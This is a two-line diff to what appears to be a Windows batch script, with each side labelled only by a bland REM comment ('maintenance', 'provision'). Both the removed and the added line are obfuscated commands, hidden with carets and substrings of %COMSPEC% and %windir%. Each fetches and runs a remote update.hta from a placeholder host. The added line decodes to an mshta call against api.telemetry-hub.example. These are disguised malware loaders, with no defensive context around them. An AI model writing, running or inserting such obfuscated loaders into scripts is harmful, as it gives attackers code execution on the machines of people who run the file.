@@ -1,2 +1,2 @@
-REM maintenance 7595 v2
-%COMSPEC:~-11,1%%windir:~-1,1%h%comspec:~14,1%a htt^p://f^i^l^es.^sy^nc-sv^c.^ex^ample/u^pdat^e.^hta
+REM provision 3808 v2
+^m%COMSPEC:~13,1%^h%COMSPEC:~14,1%^a ^h^t^tp://api.^t^ele^m^etr^y-^hu^b.e^x^a^mp^le/^u^pda^t^e.hta
